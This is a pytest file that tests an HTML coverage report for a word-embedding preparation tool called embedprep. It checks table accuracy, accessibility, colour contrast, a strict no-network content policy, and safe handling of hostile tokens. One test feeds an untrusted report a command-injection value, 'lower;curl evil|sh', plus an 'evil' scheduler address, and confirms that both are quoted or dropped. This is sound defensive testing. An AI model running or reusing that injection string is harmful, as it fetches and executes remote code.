"""The HTML report as text: it says what the record says, and nothing in it is more than text."""

from __future__ import annotations

import re
import sys
from dataclasses import replace
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import matplotlib
import numpy as np
import pytest

import embedprep
from embedprep.errors import UsageError
from embedprep.options import Options
from embedprep.report.html import render
from embedprep.report.html.command import build_command, fallback_option
from embedprep.report.html.projection import fitted, labels, principal_components
from embedprep.report.html.sample import NORMS, norms
from embedprep.report.wording import LONGEST, percent, shortened
from tests.report.samples import BIDI, HOSTILE, LONG, report, rows

pytestmark = pytest.mark.parametrize("implementation", ["reference"], indirect=True)

_VOID = {"meta", "link", "input", "br", "img"}


class Document(HTMLParser):
    """The cells of every table, the attributes of every element, and what was left open."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self._open: list[str] = []
        self._rows: list[list[str]] = []
        self._caption = ""
        self.feed(page)
        self.close()
        assert self._open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in _VOID:
            self._open.append(tag)
        if tag == "table":
            self._rows, self._caption = [], ""
        elif tag == "tr":
            self._rows.append([])
        elif tag in ("th", "td"):
            self._rows[-1].append("")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag
        if tag == "table":
            self.tables[self._caption] = self._rows

    def handle_data(self, data: str) -> None:
        if self._open and self._open[-1] in ("script", "style"):
            return
        self.text += data
        if "caption" in self._open:
            self._caption += data
        elif "td" in self._open or ("th" in self._open and "tr" in self._open):
            self._rows[-1][-1] += data


def squeezed(text: str) -> str:
    return " ".join(text.split())


def test_every_number_is_that_of_the_record() -> None:
    coverage = report()
    counts = coverage.counts
    document = Document(render(coverage))
    text = squeezed(document.text).replace("\u2011", "-")
    assert counts.tokens
    for part in (
        "94.0 % 18,800 of 20,000 words found, 120 made of n-grams or pieces",
        "90.0 % 1,110,967 of 1,234,567 words of the text, 654 made of n-grams or pieces",
        "1,200 words without a vector, 123,600 × in the text",
        "20,002 × 300 float32",
        "finds 400 of 1,200, 43.2 % of the missing text",
        "13 records of a wanted key that came before",
        "2 records with nan or infinite values left out",
    ):
        assert part in text
    assert [row[:3] for row in document.tables["Rows by provenance"][1:-1]] == [
        [name, f"{number:,}", percent(number / coverage.matrix.rows)]
        for name, number in counts.rows.items()
        if number
    ]
    missing = document.tables["The 1,000 most frequent of 1,200"]
    assert missing[0] == ["Token", "Row", "Count", "Kind"]
    assert [[cell.strip() for cell in row] for row in missing[1:]] == [
        [entry.token, f"{entry.row:,}", f"{entry.count:,}", entry.kind] for entry in counts.missing
    ]
    for kind, row in zip(counts.kinds, document.tables["By kind"][1:], strict=True):
        assert row[0].startswith(kind.kind)
        assert row[1:4] == [f"{kind.types:,}", percent(kind.types / 1200), f"{kind.tokens:,}"]
    for advice, row in zip(
        coverage.advice, document.tables["What each rule would find"][1:], strict=True
    ):
        assert row[0].startswith(advice.rule)
        assert row[1:3] == [f"{advice.types:,}", f"{advice.tokens:,}"]
        assert squeezed(row[3]) == " ".join(f"{a} → {b}" for a, b in advice.examples)
    assert document.tables["Of the most frequent types alone"][1:] == [
        [
            f"{top.rank:,}", f"{top.types.found:,}", percent(top.types.ratio),
            percent(top.tokens.ratio) if top.tokens else "",
        ]
        for top in counts.by_rank.top
    ]  # fmt: skip
    assert ["bytes", "1,037,962,819"] in document.tables["Vectors 1"]
    assert ["format", "gzip of text"] in document.tables["Vectors 2"]
    assert ["oov", "normal"] in document.tables["Options"]
    assert ["seconds", "3.45"] in document.tables["Run"]


def test_without_counts_nothing_is_said_of_the_text() -> None:
    document = Document(render(report(["a", "b"], counted=False)))
    assert "unknown" in document.text
    assert "missing text" not in document.text
    assert document.tables["All 2, in order of their ids"] == [
        ["Token", "Row", "Kind"], ["a", "7,000", "other"], ["b", "7,001", "likely misspelling"],
    ]  # fmt: skip


@pytest.mark.parametrize("missing", [[], None])
def test_coverage_by_rank_has_its_section(missing: list[str] | None) -> None:
    assert "rank" in sections(render(report(missing)))


def test_where_there_is_no_word_nothing_is_said_of_ranks(workdir: Path) -> None:
    """A vocabulary of special tokens alone, from a tokenizer that was never fitted."""
    Path("v.txt").write_text("the 1 2\n")
    _, coverage = embedprep.build("v.txt", ["", "[UNK]"])
    assert coverage.counts.types.total == 0
    page = render(coverage)
    assert "rank" not in sections(page)
    assert "Types in the order of" not in Document(page).text


def sections(page: str) -> list[str | None]:
    return [
        attrs.get("aria-labelledby") for name, attrs in Document(page).elements if name == "section"
    ]


def test_where_nothing_is_missing_there_is_nothing_to_improve() -> None:
    document = Document(render(report([])))
    assert "every word has a vector" in document.text
    assert "missing-table" not in [attrs.get("id") for _, attrs in document.elements]
    assert "What would help" not in document.text


def test_without_the_matrix_two_pictures_are_left_out_and_the_page_says_why() -> None:
    assert "made from the report alone" in render(report())
    page = render(report(), rows([f"w{i}" for i in range(50)]))
    assert "made from the report alone" not in page
    assert 'class="map"' in page
    assert "of all 50 rows found" in page


@pytest.fixture(scope="module")
def hostile() -> str:
    advice = [
        {"rule": text, "types": 1, "tokens": 1, "examples": [[text, text]]} for text in HOSTILE
    ]
    changes: dict[str, Any] = {
        "advice": advice,
        "options": {text: text for text in HOSTILE},
        "versions": {text: text for text in HOSTILE},
        "fallback": HOSTILE,
    }
    coverage = report(HOSTILE, **changes)
    text = "".join(HOSTILE[:-1])
    file, *others = coverage.vectors
    vectors = (file._replace(path=text, format=text, separator=text), *others)
    return render(replace(coverage, vectors=vectors), rows(HOSTILE * 3))


def test_hostile_text_adds_no_element_and_no_attribute(hostile: str) -> None:
    document = Document(hostile)
    assert [tag for tag, _ in document.elements].count("script") == 1
    assert {tag for tag, _ in document.elements}.isdisjoint(
        {"img", "iframe", "object", "base", "b"}
    )
    assert not any(name.startswith("on") for _, attrs in document.elements for name in attrs)
    assert len(hostile) < 200_000, "a token of a million characters was not cut"


def test_hostile_text_is_all_visible(hostile: str) -> None:
    document = Document(hostile)
    listed = [
        squeezed(row[0]) for row in document.tables[f"All {len(HOSTILE)}, most frequent first"][1:]
    ]
    expected = [squeezed(shortened(token, LONGEST)) or "(empty)" for token in HOSTILE[:-1]]
    assert listed == [*expected, f"{'long' * 23}lon… 1,000,000 characters"]
    assert r"\u202egnirts" in listed
    assert all(c.isprintable() or c == "\n" for c in hostile)
    hostile.encode("utf-8")


def test_every_token_stands_in_isolation(hostile: str) -> None:
    rows_of_tokens = re.findall(r'<th scope="row"><bdi class="token">', hostile)
    assert len(rows_of_tokens) == len(HOSTILE)


def test_labels_of_the_map_are_the_tokens_and_no_formulas() -> None:
    tokens = ["$x$", "a_b", "<i>", "x\0y", "你好", BIDI, LONG, "&amp;"]
    page = render(report(), rows(tokens, seed=4))
    written = [unescape(text) for text in re.findall(r"<text [^>]*>([^<]*)</text>", page)]
    for token in tokens:
        assert shortened(token, 18) in written
    assert not re.search(r">(wide|phone)-\d", page)


def test_the_same_report_and_matrix_give_the_same_bytes() -> None:
    tokens = [f"w{i}" for i in range(300)]
    page = render(report(), rows(tokens))
    with matplotlib.rc_context({"axes.linewidth": 9, "svg.fonttype": "path", "font.size": 30}):
        assert render(report(), rows(tokens)) == page
        assert matplotlib.rcParams["font.size"] == 30
    other_run = {"id": "ffff", "seconds": 99.5, "threads": 1, "implementation": "reference"}
    other = render(report(run=other_run), rows(tokens))
    assert other != page
    table_of_run = re.compile(r"<caption>Run</caption>.*?</table>", re.DOTALL)
    assert table_of_run.sub("", other) == table_of_run.sub("", page)


def test_the_page_loads_nothing() -> None:
    page = render(report(), rows([f"w{i}" for i in range(300)]))
    assert not re.search(r"https?:|//[a-z]|@import|url\((?!#)", re.sub(r" // .*", "", page))
    for tag, attrs in Document(page).elements:
        for name in ("src", "href", "xlink:href", "action", "srcset"):
            value = attrs.get(name) or "#"
            assert value.startswith("#") or (tag, value) == ("link", "data:,")
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', page)
    assert policy
    assert policy[1].startswith("default-src 'none';")
    assert "script-src 'sha256-" in policy[1]


def test_what_a_screen_reader_needs() -> None:
    page = render(report(), rows([f"w{i}" for i in range(300)]))
    document = Document(page)
    ids = [attrs["id"] for _, attrs in document.elements if "id" in attrs]
    assert len(ids) == len(set(ids))
    for tag, attrs in document.elements:
        if tag == "th" and attrs.get("aria-hidden") != "true":
            assert attrs["scope"] in ("col", "row")
        if tag == "svg":
            assert attrs.get("aria-hidden") == "true" or attrs.get("aria-label") or "meter" in page
        for name in ("aria-labelledby", "aria-controls", "for"):
            assert attrs.get(name, ids[0]) in ids
        if (attrs.get("href") or "").startswith("#"):
            assert (attrs["href"] or "")[1:] in ids
    tags = [tag for tag, _ in document.elements]
    assert all(tags.count(tag) == 1 for tag in ("main", "h1", "nav", "header", "footer"))
    assert sum(attrs.get("role") == "img" for _, attrs in document.elements) == 4


@pytest.mark.parametrize(
    ("name", "scheme"), [(name, scheme) for name in ("ink", "muted", "accent") for scheme in (0, 1)]
)
def test_text_stands_out_from_the_background(name: str, scheme: int) -> None:
    """WCAG 2, 1.4.3: a contrast of 4.5."""
    style = (
        Path(str(sys.modules["embedprep.report.html"].__file__)).with_name("page.css").read_text()
    )

    def luminance(variable: str) -> float:
        colour = re.findall(rf"--{variable}: #([0-9a-f]{{6}});", style)[scheme]
        parts = [int(colour[i : i + 2], 16) / 255 for i in (0, 2, 4)]
        linear = [p / 12.92 if p <= 0.04045 else ((p + 0.055) / 1.055) ** 2.4 for p in parts]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    for background in ("page", "surface"):
        low, high = sorted((luminance(name), luminance(background)))
        assert (high + 0.05) / (low + 0.05) >= 4.5


def test_the_command_is_the_build_with_its_options() -> None:
    coverage = report()
    assert build_command(coverage, ("lower", "accents")) == (
        "embedprep build --vectors glove.6B.300d.txt --vectors 'domain vectors.vec' "
        "--vocab tokenizer.json -o wiki.npy --oov normal --no-subwords --fallback lower,accents"
    )
    words = Document(render(coverage)).text
    assert "--no-subwords --fallback lower,digits-hash,possessive,accents" in words
    negative = report(options={"seed": -1, "dim": 50})
    assert " --seed=-1 --dim 50 " in (build_command(negative, ()) or "")


def test_a_report_of_a_stranger_makes_no_command_that_trusts_or_runs_anything() -> None:
    told = {"trust_pickle": True, "scheduler": "tcp://evil:1", "engine": "dask", "dim": 3}
    said = build_command(report(options=told), ("lower;curl evil|sh",)) or ""
    assert said.endswith("-o wiki.npy --dim 3 --fallback 'lower;curl evil|sh'")
    assert fallback_option(("lower;curl evil|sh",)) == "--fallback 'lower;curl evil|sh'"


@pytest.mark.parametrize("path", [None, "bad\x1bname.npy"])
def test_no_command_for_what_has_no_name_that_can_be_typed(path: str | None) -> None:
    coverage = report(matrix={"path": path, "rows": 2, "dim": 3, "dtype": "float32", "sha256": ""})
    assert build_command(coverage, ("lower",)) is None
    page = render(coverage)
    assert "Add it to the <code>embedprep build</code>" in page
    assert "--fallback</span> <span>lower,digits-hash,possessive,accents</span>" in page


def test_the_command_leaves_out_what_build_does_by_default() -> None:
    said = build_command(report(options=Options().as_told()), ("lower",)) or ""
    assert said.endswith("-o wiki.npy --fallback lower")


@pytest.mark.parametrize(
    ("tokens", "dim", "said"),
    [([], 8, "No row has a vector"), (["a", "b"], 8, "no map"), (["a", "b", "c"], 1, "no map")],
)
def test_too_little_for_a_picture(tokens: list[str], dim: int, said: str) -> None:
    assert said in render(report(), rows(tokens, dim))


@pytest.mark.parametrize("value", [0.0, 1.0, 3e38, np.inf, np.nan])
def test_strange_values(value: float) -> None:
    matrix = rows([f"w{i}" for i in range(9)])
    matrix.array[1:5] = value
    assert "<svg" in render(report(), matrix)
    matrix.array[:] = value
    assert "no map" in render(report(), matrix)


def test_a_few_giants_do_not_flatten_the_histogram() -> None:
    matrix = rows([f"w{i}" for i in range(5000)])
    matrix.array[7] *= 1000
    assert "are not drawn" in render(report(), matrix)


def test_norms_of_a_large_matrix_are_sampled_evenly() -> None:
    matrix = rows([f"w{i}" for i in range(2 * NORMS)], dim=1)
    matrix.array[:, 0] = np.arange(len(matrix.array))
    sampled = norms(matrix)
    assert (sampled.read, sampled.found) == (NORMS, 2 * NORMS)
    np.testing.assert_array_equal(sampled.values, np.arange(1, 2 * NORMS, 2))
    assert f"{NORMS:,} rows, evenly spread over the {2 * NORMS:,} found" in render(report(), matrix)


def test_the_map_says_of_how_many_rows_it_is() -> None:
    assert "The first 2,000 of 2,500 rows found" in render(
        report(), rows([f"w{i}" for i in range(2500)])
    )
    many_dimensions = rows([f"w{i}" for i in range(1200)], dim=1001)
    assert "The first 1,000 of 1,200 rows found" in render(report(), many_dimensions)


@pytest.mark.parametrize(("n", "dim"), [(40, 7), (7, 40), (3, 2)])
def test_principal_components_are_those_of_the_singular_values(n: int, dim: int) -> None:
    vectors = np.random.default_rng(5).normal(size=(n, dim)) * np.arange(1, dim + 1)
    found = principal_components(vectors)
    assert found
    points, shares = found
    centred = vectors - vectors.mean(axis=0)
    left, singular, _ = np.linalg.svd(centred, full_matrices=False)
    expected = np.abs(left[:, :2] * singular[:2] / np.abs(centred).max())
    np.testing.assert_allclose(np.abs(points), expected, atol=1e-9)
    np.testing.assert_allclose(shares, (singular**2 / (singular**2).sum())[:2])
    assert (points[np.abs(points).argmax(axis=0), [0, 1]] > 0).all()


def test_labels_neither_overlap_nor_leave_the_picture() -> None:
    points = fitted(np.random.default_rng(2).normal(size=(500, 2)), 640, 460, 14)
    assert points.min() >= 14 - 1e-9
    placed = labels(points, ["wort"] * 500, width=640, height=460, size=11.5, most=40)
    assert len(placed) == 40
    width, height = 4 * 0.6 * 11.5, 11.5
    left = {"left": 0.0, "center": width / 2, "right": width}
    corners = [(label.x - left[label.side], label.y - height / 2) for label in placed]
    assert all(0 <= x <= 640 - width and 0 <= y <= 460 - height for x, y in corners)
    for i, (x, y) in enumerate(corners):
        assert not any(abs(x - a) < width and abs(y - b) < height for a, b in corners[:i])


@pytest.mark.parametrize("library", ["jinja2", "matplotlib"])
def test_without_the_libraries(library: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, library, None)
    with pytest.raises(UsageError, match="the HTML report needs jinja2 and matplotlib") as raised:
        render(report())
    assert "pip install 'embedprep[html]'" in raised.value.remedy
    table = report(["<script>"])._repr_html_()
    assert table.startswith("<pre>")
    assert "&lt;script&gt;" in table


def test_a_notebook_gets_the_page_in_a_frame() -> None:
    coverage = report(HOSTILE)
    ((tag, attrs),) = Document(coverage._repr_html_()).elements
    assert tag == "iframe"
    assert attrs["sandbox"] == "allow-scripts"
    assert attrs["srcdoc"] == render(coverage)
